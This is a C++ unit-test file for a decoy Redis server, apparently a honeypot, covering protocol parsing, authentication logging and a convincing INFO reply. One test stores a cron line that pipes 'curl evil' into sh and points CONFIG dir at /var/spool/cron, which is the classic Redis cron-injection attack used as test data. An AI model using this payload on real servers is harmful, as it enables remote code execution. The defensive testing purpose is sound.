// The Redis framing and command engine, driven by bytes.
#include "decoy/services/redis/redis_protocol.h"

#include <gtest/gtest.h>

namespace decnet::decoy::redis {
namespace {

using Status = Parsed::Status;

TEST(RedisParseTest, RespArray) {
  const Parsed parsed = parseCommand("*2\r\n$3\r\nGET\r\n$3\r\nkey\r\n*1\r\n");
  ASSERT_EQ(parsed.status, Status::kCommand);
  EXPECT_EQ(parsed.args, (std::vector<std::string>{"GET", "key"}));
  EXPECT_EQ(parsed.consumed, 22u);
  EXPECT_EQ(parseCommand("*2\r\n$3\r\nGET\r\n$3\r\nke").status, Status::kNeedMore);
  EXPECT_EQ(parseCommand("*2\r\n$3").status, Status::kNeedMore);
}

TEST(RedisParseTest, Inline) {
  const Parsed parsed = parseCommand("set k \"a b\\n\\x41\" 'it\\'s'\r\nPING\r\n");
  ASSERT_EQ(parsed.status, Status::kCommand);
  EXPECT_EQ(parsed.args, (std::vector<std::string>{"set", "k", "a b\nA", "it's"}));
  EXPECT_EQ(parseCommand("\r\n").status, Status::kEmpty);
  EXPECT_EQ(parseCommand("PING").status, Status::kNeedMore);
  EXPECT_EQ(parseCommand("set \"open\n").anomaly, "unbalanced_quotes");
}

TEST(RedisParseTest, HostileLengthsAreErrors) {
  EXPECT_EQ(parseCommand("*99999999\r\n").anomaly, "invalid_multibulk_length");
  EXPECT_EQ(parseCommand("*x\r\n").anomaly, "invalid_multibulk_length");
  EXPECT_EQ(parseCommand("*1\r\n$999999999999\r\n").anomaly, "invalid_bulk_length");
  EXPECT_EQ(parseCommand("*1\r\n$-5\r\n").anomaly, "invalid_bulk_length");
  EXPECT_EQ(parseCommand("*1\r\n+OK\r\n").error, "Protocol error: expected '$', got '+'");
  EXPECT_EQ(parseCommand(std::string(kMaxInline + 1, 'a')).anomaly, "inline_too_long");
}

TEST(RedisParseTest, Glob) {
  EXPECT_TRUE(globMatch("*", "anything"));
  EXPECT_TRUE(globMatch("d?r", "dir"));
  EXPECT_TRUE(globMatch("db*", "dbfilename"));
  EXPECT_TRUE(globMatch("[a-d]ir", "dir"));
  EXPECT_FALSE(globMatch("[^d]ir", "dir"));
  EXPECT_TRUE(globMatch("*a*b*c", "xxaxxbxxc"));
  EXPECT_FALSE(globMatch("*a*b*c", "xxaxxbxx"));
  EXPECT_TRUE(globMatch("DIR", "dir", true));
}

Settings settings(std::string password = {}) {
  Settings s;
  s.password = std::move(password);
  s.os = "Linux 5.15.0-126-generic x86_64";
  s.startedAt = 1700000000;
  return s;
}

TEST(RedisEngineTest, OpenServerAcceptsEveryAuth) {
  Engine engine(settings(), "10.0.0.1:5555", 6379, 7);
  Reply reply = engine.execute({"AUTH", "whatever"}, 1700000100);
  EXPECT_EQ(reply.bytes, "+OK\r\n");
  ASSERT_EQ(reply.events.size(), 2u);
  EXPECT_EQ(reply.events[0].type, "command");
  EXPECT_EQ(reply.events[1].type, "auth_attempt");
  EXPECT_EQ(reply.events[1].fields[0],
            (std::pair<std::string, std::string>{"principal", "default"}));
  EXPECT_EQ(engine.execute({"PING"}, 1700000100).bytes, "+PONG\r\n");
}

TEST(RedisEngineTest, PasswordGatesCommands) {
  Engine engine(settings("s3cret"), "10.0.0.1:5555", 6379, 7);
  EXPECT_EQ(engine.execute({"INFO"}, 1).bytes, "-NOAUTH Authentication required.\r\n");
  Reply bad = engine.execute({"AUTH", "admin", "nope"}, 1);
  EXPECT_EQ(bad.bytes, "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
  EXPECT_EQ(bad.events[1].fields[0].second, "admin");
  EXPECT_EQ(bad.events[1].fields[3].second, "failed");
  Reply good = engine.execute({"auth", "s3cret"}, 1);
  EXPECT_EQ(good.bytes, "+OK\r\n");
  EXPECT_EQ(good.events[1].fields[3].second, "success");
  EXPECT_EQ(engine.execute({"DBSIZE"}, 1).bytes, ":0\r\n");
}

TEST(RedisEngineTest, InfoLooksReal) {
  Engine engine(settings(), "10.0.0.1:5555", 6379, 7);
  const std::string info = engine.execute({"INFO"}, 1700000100).bytes;
  EXPECT_EQ(info.find("$"), 0u);
  EXPECT_NE(info.find("\r\n# Server\r\nredis_version:7.2.7\r\n"), std::string::npos) << info;
  for (const char* needle :
       {"redis_mode:standalone\r\n", "os:Linux 5.15.0-126-generic x86_64\r\n", "arch_bits:64\r\n",
        "tcp_port:6379\r\n", "uptime_in_seconds:", "# Clients\r\n", "# Memory\r\n",
        "# Persistence\r\n", "# Stats\r\n", "role:master\r\n", "# CPU\r\n", "# Keyspace\r\n"}) {
    EXPECT_NE(info.find(needle), std::string::npos) << needle;
  }
  const std::string server = engine.execute({"INFO", "server"}, 1700000100).bytes;
  EXPECT_EQ(server.find("# Clients"), std::string::npos);
  engine.execute({"SET", "a", "1"}, 1);
  EXPECT_NE(engine.execute({"INFO", "keyspace"}, 1).bytes.find("db0:keys=1,expires=0"),
            std::string::npos);
}

TEST(RedisEngineTest, StoreConfigAndUnknown) {
  Engine engine(settings(), "10.0.0.1:5555", 6379, 7);
  EXPECT_EQ(engine.execute({"GET", "x"}, 1).bytes, "$-1\r\n");
  EXPECT_EQ(engine.execute({"SET", "x", "\n* * * * * curl evil|sh\n"}, 1).bytes, "+OK\r\n");
  EXPECT_EQ(engine.execute({"GET", "x"}, 1).bytes, "$24\r\n\n* * * * * curl evil|sh\n\r\n");
  EXPECT_EQ(engine.execute({"KEYS", "*"}, 1).bytes, "*1\r\n$1\r\nx\r\n");
  EXPECT_EQ(engine.execute({"CONFIG", "GET", "dir"}, 1).bytes,
            "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n");
  Reply set = engine.execute({"CONFIG", "SET", "dir", "/var/spool/cron"}, 1);
  EXPECT_EQ(set.bytes, "+OK\r\n");
  EXPECT_EQ(set.events[0].fields[1].second, "SET dir /var/spool/cron");
  EXPECT_EQ(engine.execute({"CONFIG", "GET", "dir"}, 1).bytes,
            "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n");
  EXPECT_EQ(engine.execute({"SELECT", "16"}, 1).bytes, "-ERR DB index is out of range\r\n");
  EXPECT_EQ(engine.execute({"GET"}, 1).bytes,
            "-ERR wrong number of arguments for 'get' command\r\n");
  EXPECT_EQ(engine.execute({"FOO", "bar"}, 1).bytes,
            "-ERR unknown command 'FOO', with args beginning with: 'bar' \r\n");
  EXPECT_TRUE(engine.execute({"POST", "/", "HTTP/1.1"}, 1).close);
  for (int i = 0; i < 200; ++i) engine.execute({"SET", "k" + std::to_string(i), "v"}, 1);
  EXPECT_EQ(engine.execute({"DBSIZE"}, 1).bytes, ":" + std::to_string(kMaxKeys) + "\r\n");
}

}  // namespace
}  // namespace decnet::decoy::redis
